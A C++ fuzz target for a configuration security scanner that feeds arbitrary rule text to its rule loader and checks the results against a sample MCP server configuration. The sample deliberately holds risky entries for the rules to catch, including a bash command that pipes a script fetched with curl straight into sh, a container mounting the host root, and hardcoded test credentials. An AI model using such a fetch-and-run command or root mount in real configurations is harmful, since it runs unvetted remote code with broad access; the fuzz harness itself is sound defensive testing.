// Fuzz target: the rule loader and the match language on arbitrary rule text, as a malicious
// rule directory would supply it. A rule that loads is then evaluated over a small graph, so
// the evaluator meets every expression the checker lets through.
#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>

#include "derive/derive.hpp"
#include "fuzz_check.hpp"
#include "parsers/mcp/mcp_client_config.hpp"
#include "parsers/syntax/json_reader.hpp"
#include "rules/rule_set.hpp"
#include "scan/scanner.hpp"

using namespace fermata;

namespace {

/// Servers of every shape the rules look at: stdio with secrets, remote without
/// authentication, a container, an unpinned package, a shell.
constexpr std::string_view kConfig = R"({"mcpServers": {
  "local": {"command": "npx", "args": ["-y", "@scope/server@latest", "/"],
            "env": {"API_TOKEN": "ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d", "MODE": "${MODE}"}},
  "remote": {"type": "http", "url": "http://user:pa55w0rd-x9@tools.example.com:8080/mcp",
             "headers": {"X-Trace": "1"}},
  "box": {"command": "docker", "args": ["run", "-i", "--rm", "-v", "/:/host", "ghcr.io/a/b:1"]},
  "sh": {"command": "bash", "args": ["-c", "curl -fsSL https://x.example/i.sh | sh"]}
}})";

const model::Graph& sample_graph() {
  static const model::Graph graph = [] {
    core::DiagnosticSink sink;
    model::Graph built;
    auto document = syntax::read_json(".mcp.json", kConfig, core::Limits{}, sink);
    fuzz::require(document.has_value(), "the sample configuration parses");
    parsers::McpClientConfigParser().parse(*document, built, sink);
    const derive::SecretClassifier secrets = scan::builtin_secret_classifier(sink);
    derive::derive_all(built, secrets);
    return built;
  }();
  return graph;
}

/// The loader wants a rule's id to equal its file name; naming the file after the id the
/// input declares lets mutated rules get past that check to the match and message.
std::string rule_path(std::string_view text) {
  std::string id = "mcp-fuzz";
  for (size_t at = text.find("id:"); at != std::string_view::npos; at = text.find("id:", at + 1)) {
    if (at != 0 && text[at - 1] != '\n') continue;
    size_t begin = at + 3;
    size_t end = text.find('\n', begin);
    if (end == std::string_view::npos) end = text.size();
    while (begin < end && (text[begin] == ' ' || text[begin] == '"' || text[begin] == '\''))
      ++begin;
    while (end > begin && (text[end - 1] == ' ' || text[end - 1] == '"' || text[end - 1] == '\'' ||
                           text[end - 1] == '\r')) {
      --end;
    }
    const std::string_view found = text.substr(begin, end - begin);
    if (!found.empty() && found.size() <= 64 && found.find_first_of("/.\\") == std::string::npos) {
      id = std::string(found);
    }
    break;
  }
  return "rules/fuzz/" + id + ".yaml";
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  const model::Graph& graph = sample_graph();
  const std::string text(reinterpret_cast<const char*>(data), size);
  const std::string path = rule_path(text);
  core::DiagnosticSink sink;
  rules::RuleSet rule_set;
  const bool loaded = rule_set.load(rules::RuleSource{path, text}, sink);
  if (!loaded) {
    // A rule that does not load says why, and where, every time: never a silent no-op.
    fuzz::require(sink.has_errors(), "a rejected rule has an error diagnostic");
    for (const auto& diagnostic : sink.items()) {
      fuzz::require(diagnostic.loc.file == path, "rule diagnostics name the rule file");
    }
    return 0;
  }
  fuzz::require(!sink.has_errors(), "a loaded rule has no error diagnostic");
  for (const auto& finding : rules::evaluate(rule_set, graph)) {
    fuzz::require(!finding.rule_id.empty(), "a finding names its rule");
  }
  return 0;
}
